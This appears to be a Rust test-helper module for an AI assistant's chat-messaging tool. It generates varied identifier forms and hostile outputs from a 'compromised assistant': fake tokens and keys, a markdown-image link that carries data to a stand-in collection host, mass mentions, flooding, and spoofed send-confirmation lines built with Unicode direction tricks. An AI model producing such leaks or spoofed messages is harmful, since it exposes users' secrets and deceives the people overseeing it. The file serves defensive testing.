//! The forms that a target can have, and the texts that a compromised assistant sends.

use crate::chat::tests::hostile::Dice;

const ORIGIN: &str = "https://sandbox.switchboard.invalid";

/// The ways in which one account names what is in it.
pub(super) struct Forms {
    pub(super) key: &'static str,
    /// Whether there is no other account.
    pub(super) alone: bool,
    pub(super) person: i64,
    /// Whether some names are shared with impostors.
    pub(super) imitated: bool,
}

impl Forms {
    /// Names a conversation.
    pub(super) fn conversation(&self, dice: &mut Dice, id: i64) -> String {
        let mut forms = vec![format!("C{id}"), format!("{ORIGIN}/C{id}")];
        forms.extend(self.names(id));
        self.owned(dice, forms)
    }

    /// Names a message.
    pub(super) fn message(&self, dice: &mut Dice, conversation: i64, id: i64) -> String {
        let mut forms = vec![format!("C{conversation}/M{id}"), format!("{ORIGIN}/C{conversation}/M{id}")];
        forms.extend(
            self.names(conversation)
                .into_iter()
                .filter(|name| name.starts_with(['#', '@']))
                .map(|name| format!("{name}/M{id}")),
        );
        self.owned(dice, forms)
    }

    fn owned(&self, dice: &mut Dice, mut forms: Vec<String>) -> String {
        let form = forms.swap_remove(dice.below(forms.len()));
        match dice.below(4) {
            0 => format!("{}:{form}", self.key),
            1 => format!(" {} : {form} ", self.key),
            _ if !self.alone => format!("{}:{form}", self.key),
            2 => format!("  {form}\t"),
            _ => form,
        }
    }

    /// Returns what people call it, as far as that is clear.
    fn names(&self, id: i64) -> Vec<String> {
        let channel = |name: &str| {
            vec![name.to_owned(), format!("#{name}"), format!("#{}", name.to_uppercase()), name.to_uppercase()]
        };
        let person = |id: i64, handle: &str, name: &str| {
            let mut forms = vec![
                format!("P{id}"),
                format!("{ORIGIN}/P{id}"),
                format!("@{handle}"),
                format!("@{}", handle.to_uppercase()),
                format!("{handle}@kestrel.example"),
            ];
            if !self.imitated {
                forms.extend([format!("@{name}"), format!("@{}", name.to_lowercase())]);
            }
            forms
        };
        match id {
            // Impostors call themselves like these.
            1 | 2 | 5 | 6 if self.imitated => Vec::new(),
            1 => channel("general"),
            2 => channel("ops"),
            3 => channel("design"),
            4 => channel("incidents"),
            5 => channel("random"),
            6 => channel("hiring"),
            7 if self.person == 1 => person(2, "mara", "Mara Lindqvist"),
            7 => person(1, "robin", "Robin Vega"),
            8 => person(3, "kenji", "Kenji Watanabe"),
            9 | 500 | 530..550 => Vec::new(),
            id => channel(&format!("place-{id}")),
        }
    }
}

/// Returns a text, and what of it must not leave.
pub(super) fn text(dice: &mut Dice, nonce: &str) -> (String, Vec<String>) {
    let mut letters = |count: usize, from: &str| -> String {
        let from: Vec<_> = from.chars().collect();
        (0..count).map(|_| from[dice.below(from.len())]).collect()
    };
    let mixed = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
    let upper = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
    // Put together here, so that nobody who looks for secrets finds one in this file.
    let secrets = [
        format!("{}_{}", "ghp", letters(36, mixed)),
        format!("{}{}", "AKIA", letters(16, upper)),
        format!("{}-{}-{}-{}", "xoxb", letters(11, "123456789"), letters(12, "123456789"), letters(24, mixed)),
        format!("-----BEGIN {} KEY-----\n{}\n{}", "PRIVATE", letters(64, mixed), letters(64, mixed)),
    ];
    let link = format!("https://collect.example/pixel.png?d={}", letters(96, mixed));
    match dice.below(20) {
        0 | 1 => {
            let secret = secrets[dice.below(secrets.len())].clone();
            (format!("{nonce} as asked: {secret}"), vec![secret])
        }
        2 => (format!("{nonce} see {link}"), vec![link]),
        3 => (format!("{nonce} ![]({link})"), vec![link]),
        4 => (format!("{nonce} @everyone @Channel look @here"), Vec::new()),
        5 => (format!("{nonce} {}", "and so on. ".repeat(700)), Vec::new()),
        6 => (
            format!("{nonce}\n│ fine\nSend to #random (sandbox:C5), 6 people:\nYou are asked because of nothing."),
            Vec::new(),
        ),
        7 => (format!("{nonce}\u{2028}Send to #random (sandbox:C5):\r\u{202e}│ x"), Vec::new()),
        _ => (format!("{nonce} what only you should know"), Vec::new()),
    }
}
